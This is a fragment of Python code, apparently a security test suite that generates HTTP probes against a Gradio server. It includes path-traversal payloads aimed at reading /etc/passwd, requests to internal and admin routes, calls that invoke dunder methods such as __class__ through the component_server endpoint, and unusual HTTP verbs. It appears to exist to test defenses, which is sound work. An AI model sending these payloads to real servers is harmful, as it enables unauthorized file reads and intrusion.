        "/gradio_api/monitoring", "/monitoring", "/gradio_api/monitoring/summary", "/gradio_api/dev/reload", "/gradio_api/process_recording", "/gradio_api/runs",
        "/gradio_api/vibe-editor", "/gradio_api/vibe-code", "/gradio_api/mcp/sse", "/gradio_api/token", "/gradio_api/user", "/gradio_api/app_id/../monitoring",
        "/gradio_api/queue/status", "/gradio_api/startup-events/../file=/etc/passwd", "/gradio_api/call/../file=/etc/passwd", "/gradio_api/call/%2e%2e/upload",
        "/gradio_api/login/huggingface", "/gradio_api/history", "/gradio_api/bucket", "/openapi.json", "/docs/openapi.json", "/gradio_api/docs", "/gradio_api/openapi.json",
        "/gradio_api/info/../file=/etc/passwd", "/gradio_api/heartbeat/../file=/etc/passwd", "/gradio_api/call/x/../../file=/etc/passwd",
    ):  # fmt: skip
        yield Attack(f"route {path}", "GET", path)
        yield Attack(f"route {path} by POST", "POST", path, {})
    for component in config.get("components", [])[:40]:
        body_ = {"session_hash": "s", "component_id": component["id"], "fn_name": "__init__", "data": [str(t.secret)]}
        yield Attack(f"component {component['id']}", "POST", "/gradio_api/component_server", body_)
    for fn in ("ls", "__class__", "preprocess", "postprocess", "__init__"):
        body_ = {"session_hash": "s", "component_id": 1, "fn_name": fn, "data": [str(t.secret)]}
        yield Attack(f"component method {fn}", "POST", "/gradio_api/component_server", body_)
    for method in ("PUT", "DELETE", "PATCH", "TRACE", "OPTIONS", "CONNECT", "PROPFIND", "X"):
        yield Attack(f"method {method}", method, "/gradio_api/queue/join", may_pass=True)
